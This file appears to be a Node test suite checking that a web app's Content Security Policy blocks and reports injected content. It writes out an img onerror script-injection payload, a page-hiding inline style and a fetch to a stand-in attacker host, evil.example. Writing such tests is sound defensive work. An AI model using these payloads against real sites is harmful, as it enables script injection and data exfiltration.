// What the content policy refuses is reported to the portal: so that nothing reported in the other tests means that
// nothing was refused. Every portal of the tests fails when it stops with a report (support/portal.mjs).
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { launch, visit } from '../support/browser.mjs';
import { SAMIRA } from '../support/people.mjs';
import { Portal } from '../support/portal.mjs';

let browser;
let portal;
before(async () => {
  browser = await launch();
  portal = await Portal.start({ empty: true });
});
after(async () => {
  await browser?.close();
  await portal?.stop({ reports: 3 });
});

/** Waits until the portal heard of so many. */
async function heard(reports) {
  for (let tries = 0; tries < 100 && portal.reports < reports; tries++) await new Promise((later) => setTimeout(later, 50));
  assert.equal(portal.reports, reports);
}

test('what a page should not do is refused and reported', () =>
  visit(browser, portal, {}, async (visitor) => {
    visitor.expect(/Content Security Policy/, /failed: .* csp/);
    await visitor.signIn(SAMIRA);
    await visitor.go(`/r/${SAMIRA.id}`);
    await visitor.page.evaluate(() => {
      const script = document.createElement('div');
      script.innerHTML = '<img src="/nowhere.png" onerror="window.ran = true">';
      document.body.append(script);
    });
    await heard(1);
    assert.equal(await visitor.page.evaluate(() => window.ran), undefined, 'a script inside markup does not run');
    await visitor.page.evaluate(() => document.head.append(Object.assign(document.createElement('style'), { textContent: 'main { display: none }' })));
    await heard(2);
    assert.ok(await visitor.page.locator('main').isVisible());
    await visitor.page.evaluate(() => fetch('https://evil.example/?all').catch(() => {}));
    await heard(3);
    assert.match(portal.log, /script-src-attr/);
    assert.match(portal.log, /style-src-elem/);
    assert.match(portal.log, /connect-src/);
    assert.ok(!portal.log.includes(SAMIRA.id), 'whose page it was is not told');
    visitor.expect(/nowhere\.png/, /404/);
  }));
